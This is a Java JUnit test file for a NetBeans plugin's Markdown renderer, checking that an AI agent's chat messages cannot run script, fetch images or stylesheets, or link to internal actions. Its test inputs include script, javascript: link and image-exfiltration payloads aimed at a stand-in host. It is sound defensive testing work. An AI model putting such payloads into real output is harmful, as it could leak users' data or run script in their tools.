package dev.companion4j.netbeans;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** The agent's Markdown in the chat window: formatted, and never a way to run or fetch anything. */
class MarkdownTest {

  @Test
  void markdownBecomesHtmlASwingPaneShows() {
    assertThat(Markdown.toHtml("**Done.** See `Hello.java`:\n\n- one\n- two"))
        .contains("<strong>Done.</strong>", "<code>Hello.java</code>", "<li>one</li>");
  }

  @Test
  void rawHtmlFromTheModelIsShownAsTextNotRendered() {
    String html =
        Markdown.toHtml(
            "<img src=\"http://example.invalid/track.png\"> and <script>alert(1)</script>");

    assertThat(html).doesNotContain("<img", "<script").contains("&lt;img", "&lt;script&gt;");
  }

  @Test
  void imagesBecomeTheirTextSoNothingIsFetched() {
    assertThat(Markdown.toHtml("![the build log](http://example.invalid/leak?secret=1)"))
        .doesNotContain("<img", "example.invalid")
        .contains("[image: the build log]");
  }

  @Test
  void noCssComesFromAMessage() {
    String html =
        Markdown.toHtml(
            "<style>body { display: none }</style>\n\n<p style=\"color: red\">x</p>\n\n"
                + "```css\nbody {}\n```\n\n<link rel=\"stylesheet\" href=\"http://example.invalid/x.css\">");

    assertThat(html)
        .doesNotContain("<style", " style=\"", " class=\"", "<link", "<p style")
        .contains("&lt;style&gt;", "<pre><code>");
  }

  @Test
  void aMessageCannotLinkToTheWindowsOwnActions() {
    assertThat(Markdown.toHtml("[open the thought](thought:e1) <thought:e2>"))
        .doesNotContain("href=\"thought:");
  }

  @Test
  void linksKeepOnlySafeSchemes() {
    assertThat(Markdown.toHtml("[click](javascript:alert(1)) [docs](https://example.invalid/docs)"))
        .doesNotContain("javascript:")
        .contains("href=\"https://example.invalid/docs\"");
  }
}
